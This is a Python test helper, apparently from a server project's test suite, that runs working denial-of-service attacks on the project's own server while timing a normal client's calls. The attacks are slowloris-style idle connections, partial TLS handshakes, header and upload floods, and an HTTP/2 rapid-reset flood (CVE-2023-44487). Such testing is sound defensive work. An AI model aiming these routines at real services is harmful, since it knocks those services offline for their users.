"""Attacks on a server, each in a process of its own, and a client beside them whose calls are timed.

``python -m support.attacks NAME ADDRESS`` goes on until it is killed; ``beside`` runs it.
"""

import asyncio
import os
import socket
import ssl
import statistics
import subprocess
import sys
import time
from collections.abc import Awaitable, Callable, Iterator
from contextlib import contextmanager, suppress
from dataclasses import dataclass
from functools import partial
from pathlib import Path

import h2.config
import h2.connection
import h2.errors

from rbd_connect.server.lifecycle import allow_many_connections

from .server import PROCEDURE, Server
from .wire import http1_bytes, read_http1, valid

__all__ = ["ATTACKS", "Calls", "attacked", "begin_of_tls", "call", "calls_beside"]

Attack = Callable[[str], Awaitable[None]]

_HELLO = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(100)


def begin_of_tls() -> bytes:
    """Give what a client begins TLS with."""
    sent = ssl.MemoryBIO()
    with suppress(ssl.SSLWantReadError):
        ssl.create_default_context().wrap_bio(ssl.MemoryBIO(), sent, server_hostname="localhost").do_handshake()
    return sent.read()


_RESETS_AT_ONCE = 100


async def _one_byte_chunks(address: str) -> None:
    """One connection, as many chunks of a byte as it takes, for ever anew."""
    head = http1_bytes(valid("connect-json").with_header(b"transfer-encoding", b"chunked")).partition(b"\r\n\r\n")[0]
    chunks = b"1\r\n \r\n" * 10_000
    while True:
        await _sent(address, head + b"\r\n\r\n", chunks)


async def _endless_upload(address: str) -> None:
    """A refused request whose body never ends."""
    head = b"POST /nowhere HTTP/1.1\r\nhost: localhost\r\ncontent-length: 1000000000000\r\nconnection: close\r\n\r\n"
    while True:
        await _sent(address, head, b"a" * 65536)


async def _many_headers(address: str) -> None:
    head = b"POST / HTTP/1.1\r\nhost: localhost\r\n" + b"a:\r\n" * 15_000 + b"\r\n"
    while True:
        await _sent(address, head, head)


async def _silence(address: str, first: bytes = b"") -> None:
    """A connection on which nothing comes, or nothing after the first bytes; and another when it ends."""
    while True:
        with suppress(OSError):
            reader, writer = await _connected(address)
            writer.write(first)
            await reader.read()
            writer.close()
        await asyncio.sleep(0.5)


async def _sent(address: str, first: bytes, again: bytes) -> None:
    """Send on one connection as fast as it takes, until it ends."""
    with suppress(OSError):
        reader, writer = await _connected(address)
        ended = asyncio.create_task(_to_the_end(reader))
        with suppress(OSError):
            writer.write(first)
            while not ended.done():
                writer.write(again)
                await writer.drain()
                if not again:
                    await asyncio.wait([ended], timeout=1)
        writer.close()
        await ended
    await asyncio.sleep(0)


async def _to_the_end(reader: asyncio.StreamReader) -> None:
    with suppress(OSError):
        while await reader.read(65536):
            pass


async def _resets(address: str) -> None:
    """Open streams, and reset them at once. https://nvd.nist.gov/vuln/detail/CVE-2023-44487"""
    while True:
        with suppress(OSError, asyncio.IncompleteReadError):
            await _resets_on_one(address)


async def _resets_on_one(address: str) -> None:
    reader, writer = await _connected(address)
    state = h2.connection.H2Connection(h2.config.H2Configuration(header_encoding=None))
    state.initiate_connection()
    headers = [(b":method", b"POST"), (b":path", b"/" + PROCEDURE.encode()), (b":scheme", b"http")]
    headers += [(b":authority", b"localhost"), (b"te", b"trailers"), (b"content-type", b"application/grpc")]
    ended = asyncio.create_task(_to_the_end(reader))
    try:
        while not ended.done():
            for _ in range(_RESETS_AT_ONCE):
                stream = state.get_next_available_stream_id()
                state.send_headers(stream, headers)
                state.reset_stream(stream, h2.errors.ErrorCodes.CANCEL)
            writer.write(state.data_to_send())
            await writer.drain()
            await asyncio.sleep(0)
    finally:
        ended.cancel()
        writer.close()


async def _streams(address: str, path: bytes, number: int) -> None:
    """Hold streams of a method open, and open others where they end."""
    while True:
        with suppress(OSError):
            await _streams_on_one(address, path, number)
        await asyncio.sleep(0.1)


async def _streams_on_one(address: str, path: bytes, number: int) -> None:
    reader, writer = await _connected(address)
    state = h2.connection.H2Connection(h2.config.H2Configuration(header_encoding=None))
    state.initiate_connection()
    headers = [(b":method", b"POST"), (b":path", path), (b":scheme", b"http"), (b":authority", b"localhost")]
    headers += [(b"te", b"trailers"), (b"content-type", b"application/grpc")]
    is_watch = b"Watch" in path

    def open_streams() -> None:
        while state.open_outbound_streams < min(number, state.remote_settings.max_concurrent_streams):
            stream = state.get_next_available_stream_id()
            state.send_headers(stream, headers)
            if is_watch:
                state.send_data(stream, bytes(5), end_stream=True)

    while True:
        open_streams()
        writer.write(state.data_to_send())
        received = await reader.read(65536)
        if not received:
            return
        state.receive_data(received)


async def _connected(address: str) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    host, _, port = address.rpartition(":")
    return await asyncio.open_connection(host, int(port))


async def _at_once(number: int, attack: Attack, address: str) -> None:
    await asyncio.gather(*(attack(address) for _ in range(number)))


_WATCH = b"/grpc.health.v1.Health/Watch"
_REFLECTION = b"/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"

ATTACKS: dict[str, tuple[str, Attack]] = {
    "chunks-of-one-byte": ("http", _one_byte_chunks),
    "chunks-of-one-byte-16": ("http", partial(_at_once, 16, _one_byte_chunks)),
    "endless-uploads-16": ("http", partial(_at_once, 16, _endless_upload)),
    "many-headers-16": ("http", partial(_at_once, 16, _many_headers)),
    "silent-1000": ("http", partial(_at_once, 1000, _silence)),
    "silent-8000": ("http", partial(_at_once, 8000, _silence)),
    "half-a-handshake-8000": ("http", partial(_at_once, 8000, partial(_silence, first=_HELLO))),
    "half-a-handshake-1000": ("http", partial(_at_once, 1000, partial(_silence, first=_HELLO))),
    "hello-alone-300": ("http", partial(_at_once, 300, partial(_silence, first=begin_of_tls()))),
    "hello-alone-8000": ("http", partial(_at_once, 8000, partial(_silence, first=begin_of_tls()))),
    "silent-grpc-8000": ("grpc", partial(_at_once, 8000, _silence)),
    "resets": ("grpc", partial(_at_once, 2, _resets)),
    "watches": ("grpc", partial(_at_once, 20, partial(_streams, path=_WATCH, number=500))),
    "reflections": ("grpc", partial(_at_once, 20, partial(_streams, path=_REFLECTION, number=500))),
}


@contextmanager
def attacked(server: Server, name: str) -> Iterator["subprocess.Popen[bytes]"]:
    """Attack a server while inside."""
    listener, _ = ATTACKS[name]
    address = server.grpc_address if listener == "grpc" else server.address
    tests = str(Path(__file__).parents[1])
    environment = {**os.environ, "PYTHONPATH": tests + os.pathsep + os.environ.get("PYTHONPATH", "")}
    words = ["setpriv", "--pdeathsig", "KILL", sys.executable, "-m", "support.attacks", name, address]
    process = subprocess.Popen(words, env=environment)
    try:
        yield process
        assert process.poll() is None, "the attack ended by itself"
    finally:
        process.kill()
        process.wait()


@dataclass(frozen=True)
class Calls:
    """How long calls took that were answered, in seconds, and how many were not, or not as they should be."""

    seconds: list[float]
    failed: int

    @property
    def median(self) -> float:
        return statistics.median(self.seconds)

    @property
    def longest(self) -> float:
        return max(self.seconds, default=float("inf"))


def calls_beside(call: Callable[[], bool], seconds: float) -> Calls:
    """Make calls one after the other. ``call`` says whether one was answered as it should be."""
    taken: list[float] = []
    failed = 0
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        began = time.monotonic()
        try:
            answered = call()
        except OSError:
            answered = False
        taken.append(time.monotonic() - began)
        failed += not answered
    return Calls(taken, failed)


def call(address: str, wrap: Callable[[socket.socket], socket.socket] = lambda connection: connection) -> bool:
    """Make a call on a connection of its own, by Connect. It comes as far as the scope, which there is not."""
    host, _, port = address.rpartition(":")
    with socket.create_connection((host, int(port)), timeout=30) as connection, wrap(connection) as secured:
        secured.sendall(http1_bytes(valid("connect-json")))
        return read_http1(secured).reason == "SCOPE_NOT_FOUND"


if __name__ == "__main__":
    allow_many_connections()
    asyncio.run(ATTACKS[sys.argv[1]][1](sys.argv[2]))  # type: ignore[arg-type] # it is a coroutine's
